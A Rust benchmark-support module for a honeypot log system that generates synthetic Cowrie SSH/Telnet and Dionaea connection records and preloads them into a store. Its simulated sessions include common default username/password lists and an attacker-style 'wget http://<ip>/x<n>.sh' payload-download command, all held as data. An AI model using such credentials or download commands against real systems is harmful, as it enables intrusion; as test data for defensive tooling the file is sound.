//! Deterministic synthetic honeypot traffic for benchmarks: realistic Cowrie and Dionaea
//! payloads from a skewed population of public source addresses, and a bulk preload that
//! runs them through the real normalizers and geolocation into a store.
//!
//! Used by `apiary-server`'s `ingest_e2e` bench and `apiary-bench web`, so both measure
//! the same data shape (and a data directory preloaded by one can be reused by the other).
//!
//! # Layout
//! - [`Rng`]: xorshift64 with a skewed pick (few heavy hitters, a long tail).
//! - [`address_pool`], [`payload`], [`sensor_ip`], [`live_payloads`]: what is generated.
//! - [`preload`]: N sessions over the last D days through `Store::insert_batch`.
//! - [`geo_db`]: the geolocation databases in `data/geo`, when present.
//! - [`reference`]: the benchmarks' plain-SQLite reference insert of the same rows.
//! - [`timing`]: timing store queries (median and maximum of a few runs).
//! - [`server`]: running the `apiary` binary (admin commands, `apiary server`) from tests.

pub mod pg;
pub mod reference;
pub mod server;
pub mod timing;

use std::net::{IpAddr, Ipv4Addr};
use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration as StdDuration, Instant};

use apiary_geo::{GeoDb, GeoSettings};
use apiary_ingest::pipeline::{process, IngestMetrics};
use apiary_model::RawEvent;
use apiary_store::{IngestItem, Store};
use bytes::Bytes;
use chrono::{DateTime, Duration, SecondsFormat, Utc};

/// Error type of the helpers (benchmarks print it).
pub type BoxError = Box<dyn std::error::Error + Send + Sync>;

/// xorshift64: fast, deterministic, good enough for test data.
pub struct Rng(pub u64);

impl Rng {
    /// A generator from any `seed` (scrambled, never the all-zero state xorshift is stuck in).
    pub fn seeded(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }

    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    /// Uniform in `0..n` (0 when `n` is 0).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }

    /// Skewed pick: low indexes far more often (a few heavy hitters, a long tail).
    pub fn skewed(&mut self, n: u64) -> u64 {
        let a = self.below(n);
        self.below(a + 1)
    }
    /// A uniformly chosen element of `items` (which must not be empty).
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

/// `n` distinct public (geo-routable) IPv4 addresses.
pub fn address_pool(n: usize, seed: u64) -> Vec<Ipv4Addr> {
    let mut rng = Rng(seed);
    let mut seen = std::collections::HashSet::with_capacity(n);
    let mut out = Vec::with_capacity(n);
    while out.len() < n {
        let ip = Ipv4Addr::from(rng.next_u64() as u32);
        if apiary_geo::is_non_routable(IpAddr::V4(ip)) || !seen.insert(ip) {
            continue;
        }
        out.push(ip);
    }
    out
}

const USERS: &[&str] = &[
    "root", "admin", "user", "test", "ubuntu", "oracle", "postgres", "git", "pi", "support",
    "guest", "ftpuser", "deploy", "hadoop", "mysql", "nagios", "centos", "ec2-user", "www",
    "tomcat",
];
const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "qwerty",
    "1234",
    "111111",
    "toor",
    "raspberry",
    "123",
    "pass",
    "changeme",
    "admin123",
    "P@ssw0rd",
    "letmein",
    "default",
    "support",
    "ubnt",
    "1q2w3e4r",
];
const DIONAEA: &[(u16, &str)] = &[
    (445, "smbd"),
    (80, "httpd"),
    (1433, "mssqld"),
    (3306, "mysqld"),
    (21, "ftpd"),
    (5060, "SipSession"),
    (135, "epmapper"),
    (42, "nameserver"),
];
const SSH_CLIENTS: &[&str] = &[
    "SSH-2.0-libssh2_1.9.0",
    "SSH-2.0-Go",
    "SSH-2.0-OpenSSH_7.4",
    "SSH-2.0-PuTTY_Release_0.70",
    "SSH-2.0-paramiko_2.7.1",
];

fn username(rng: &mut Rng) -> String {
    let i = rng.skewed(2_000) as usize;
    USERS
        .get(i)
        .map_or_else(|| format!("user{i}"), |s| (*s).to_owned())
}

fn password(rng: &mut Rng) -> String {
    let i = rng.skewed(20_000) as usize;
    PASSWORDS
        .get(i)
        .map_or_else(|| format!("pw{i:x}"), |s| (*s).to_owned())
}

/// One realistic payload: (channel, JSON). 60 % Cowrie sessions (SSH or Telnet, 1–3
/// credentials, a tenth logged in with commands), 40 % Dionaea connections. Cowrie
/// sessions carry their own start time `ts`.
pub fn payload(
    rng: &mut Rng,
    pool: &[Ipv4Addr],
    sensor_ip: Ipv4Addr,
    ts: DateTime<Utc>,
) -> (&'static str, String) {
    let src = pool[rng.skewed(pool.len() as u64) as usize];
    let sport = 1024 + rng.below(64_000);
    if rng.below(10) < 6 {
        let telnet = rng.below(5) == 0;
        let (port, proto) = if telnet { (23, "telnet") } else { (22, "ssh") };
        let mut creds = Vec::new();
        for _ in 0..1 + rng.below(3) {
            creds.push(serde_json::json!([username(rng), password(rng)]));
        }
        let logged = rng.below(10) == 0;
        let loggedin = if logged {
            creds.last().cloned().unwrap_or(serde_json::Value::Null)
        } else {
            serde_json::Value::Null
        };
        let commands: Vec<String> = if logged {
            vec![
                "uname -a".into(),
                format!(
                    "wget http://{}/x{}.sh",
                    pool[rng.below(50) as usize],
                    rng.below(9)
                ),
            ]
        } else {
            Vec::new()
        };
        let end = ts + Duration::milliseconds(500 + rng.below(30_000) as i64);
        let v = serde_json::json!({
            "session": format!("{:012x}", rng.next_u64() & 0xffff_ffff_ffff),
            "startTime": ts.to_rfc3339_opts(SecondsFormat::Micros, true),
            "endTime": end.to_rfc3339_opts(SecondsFormat::Micros, true),
            "peerIP": src.to_string(),
            "peerPort": sport,
            "hostIP": sensor_ip.to_string(),
            "hostPort": port,
            "loggedin": loggedin,
            "credentials": creds,
            "commands": commands,
            "unknownCommands": [],
            "urls": [],
            "version": if telnet { serde_json::Value::Null } else {
                SSH_CLIENTS[rng.skewed(SSH_CLIENTS.len() as u64) as usize].into()
            },
            "ttylog": null,
            "hashes": [],
            "protocol": proto,
        });
        ("cowrie.sessions", v.to_string())
    } else {
        let (port, proto) = DIONAEA[rng.skewed(DIONAEA.len() as u64) as usize];
        let v = serde_json::json!({
            "connection_type": "accept",
            "connection_transport": "tcp",
            "connection_protocol": proto,
            "remote_host": src.to_string(),
            "remote_port": sport,
            "remote_hostname": "",
            "local_host": sensor_ip.to_string(),
            "local_port": port,
        });
        ("dionaea.connections", v.to_string())
    }
}

/// The address of sensor `i`: public-looking, one per sensor.
pub fn sensor_ip(i: usize) -> Ipv4Addr {
    Ipv4Addr::new(45, 33, (i / 200) as u8, 10 + (i % 200) as u8)
}

/// `n` payloads stamped `now` for live publishing: (sensor index, channel, payload),
/// sensors round-robin over `sensors`.
pub fn live_payloads(
    pool: &[Ipv4Addr],
    n: usize,
    sensors: usize,
) -> Vec<(usize, &'static str, Bytes)> {
    let mut rng = Rng(0x1234_5678_9abc_def1);
    let now = Utc::now();
    (0..n)
        .map(|i| {
            let s = i % sensors.max(1);
            let (ch, body) = payload(&mut rng, pool, sensor_ip(s), now);
            (s, ch, Bytes::from(body))
        })
        .collect()
}

/// The geolocation databases in `data/geo` (of the workspace, else of the current
/// directory); disabled, with a warning, when there are none.
pub fn geo_db() -> GeoDb {
    let dirs = [
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../data/geo"),
        PathBuf::from("data").join("geo"),
    ];
    let settings = GeoSettings::discover_in(&dirs);
    match GeoDb::open(&settings) {
        Ok(db) if db.is_enabled() => db,
        Ok(_) | Err(_) => {
            println!("WARNING: no geo database found in data/geo; run scripts/fetch-geo.sh");
            GeoDb::disabled()
        }
    }
}

/// What [`preload`] writes.
#[derive(Debug, Clone)]
pub struct PreloadSpec {
    /// Sessions (one raw message each).
    pub sessions: usize,
    /// Days the sessions span, ending one hour before `now`.
    pub span_days: i64,
    /// Messages per `insert_batch`.
    pub batch: usize,
    /// Sensors (idents `sensor-00` ..) the sessions are spread over.
    pub sensors: usize,
}

impl Default for PreloadSpec {
    fn default() -> Self {
        Self {
            sessions: 10_000_000,
            span_days: 30,
            batch: 50_000,
            sensors: 20,
        }
    }
}

/// Sessions per second.
fn rate(n: u64, d: StdDuration) -> f64 {
    n as f64 / d.as_secs_f64().max(1e-9)
}

/// Stores `spec.sessions` sessions, evenly over `[now - span, now - 1 h)` in time order,
/// through the store's write path: each a raw payload normalized and geolocated by the
/// real pipeline code on a generator thread that overlaps the inserts. Prints progress
/// every 500,000 sessions.
pub async fn preload(
    store: &Arc<dyn Store>,
    geo: &Arc<GeoDb>,
    pool: &Arc<Vec<Ipv4Addr>>,
    spec: &PreloadSpec,
    now: DateTime<Utc>,
) -> Result<(), BoxError> {
    let total = spec.sessions;
    if total == 0 {
        return Ok(());
    }
    let span_us = (spec.span_days.max(1) * 24 - 1) * 3_600_000_000;
    let start = now - Duration::days(spec.span_days.max(1));
    let step_us = (span_us / total as i64).max(1);
    let batch = spec.batch.max(1);
    let sensors = spec.sensors.max(1) as u64;
    let (tx, mut rx) = tokio::sync::mpsc::channel::<Vec<IngestItem>>(2);
    let (geo2, pool2) = (geo.clone(), pool.clone());
    let gen = std::thread::spawn(move || {
        let metrics = IngestMetrics::default();
        let mut rng = Rng(0x0bad_cafe_1234_5678);
        let mut done = 0usize;
        while done < total {
            let n = batch.min(total - done);
            let items: Vec<IngestItem> = (done..done + n)
                .map(|i| {
                    let ts = start + Duration::microseconds(step_us * i as i64);
                    let sensor = rng.below(sensors) as usize;
                    let (channel, body) = payload(&mut rng, &pool2, sensor_ip(sensor), ts);
                    let raw = RawEvent {
                        id: None,
                        channel: channel.into(),
                        ident: format!("sensor-{sensor:02}"),
                        received_at: ts,
                        payload: Bytes::from(body),
                    };
                    process(raw, &geo2, &metrics)
                })
                .collect();
            if tx.blocking_send(items).is_err() {
                return;
            }
            done += n;
        }
    });
    let t0 = Instant::now();
    let mut done = 0u64;
    let mut next_report = 500_000u64;
    while let Some(items) = rx.recv().await {
        done += items.len() as u64;
        store.insert_batch(items).await?;
        if done >= next_report || done == total as u64 {
            println!(
                "  preload {done:>10} / {total}  {:>8.0} sessions/s  ({:.0} s)",
                rate(done, t0.elapsed()),
                t0.elapsed().as_secs_f64()
            );
            next_report += 500_000;
        }
    }
    gen.join().map_err(|_| "generator thread panicked")?;
    Ok(())
}

/// Rows of `table` as the store counts them (0 for a table it does not list).
pub async fn stored_rows(store: &dyn Store, table: &str) -> u64 {
    store
        .table_counts()
        .await
        .expect("table counts")
        .into_iter()
        .find(|(t, _)| t == table)
        .map_or(0, |(_, n)| n)
}

/// CPU seconds this process has used (user + system, all threads), from
/// `/proc/self/stat` in USER_HZ ticks (100 per second on Linux); 0 where unreadable.
pub fn process_cpu_seconds() -> f64 {
    let Ok(stat) = std::fs::read_to_string("/proc/self/stat") else {
        return 0.0;
    };
    // Fields after the command name (which may hold spaces): state is field 3, utime 14.
    let rest = stat.rsplit_once(')').map_or("", |(_, r)| r);
    let f: Vec<&str> = rest.split_whitespace().collect();
    let ticks = |i: usize| f.get(i).and_then(|v| v.parse::<u64>().ok()).unwrap_or(0);
    (ticks(11) + ticks(12)) as f64 / 100.0
}

/// The 1-, 5- and 15-minute load averages, for printing beside figures.
pub fn load_average() -> String {
    std::fs::read_to_string("/proc/loadavg")
        .map(|s| s.split_whitespace().take(3).collect::<Vec<_>>().join(" "))
        .unwrap_or_else(|_| "?".into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_public() {
        let a = address_pool(100, 7);
        assert_eq!(a, address_pool(100, 7));
        assert!(a
            .iter()
            .all(|ip| !apiary_geo::is_non_routable(IpAddr::V4(*ip))));
        let now = Utc::now();
        let (mut r1, mut r2) = (Rng(9), Rng(9));
        for _ in 0..50 {
            let p1 = payload(&mut r1, &a, sensor_ip(1), now);
            assert_eq!(p1, payload(&mut r2, &a, sensor_ip(1), now));
            assert!(serde_json::from_str::<serde_json::Value>(&p1.1).is_ok());
        }
    }

    #[tokio::test]
    async fn preload_stores_every_session() {
        let store = apiary_store::open("sqlite::memory:").await.unwrap();
        let spec = PreloadSpec {
            sessions: 300,
            span_days: 2,
            batch: 128,
            sensors: 3,
        };
        let now = Utc::now();
        let pool = Arc::new(address_pool(50, 1));
        let geo = Arc::new(GeoDb::disabled());
        preload(&store, &geo, &pool, &spec, now).await.unwrap();
        let n = store
            .total_sessions(now - Duration::days(3), now)
            .await
            .unwrap();
        assert_eq!(n, 300);
    }
}
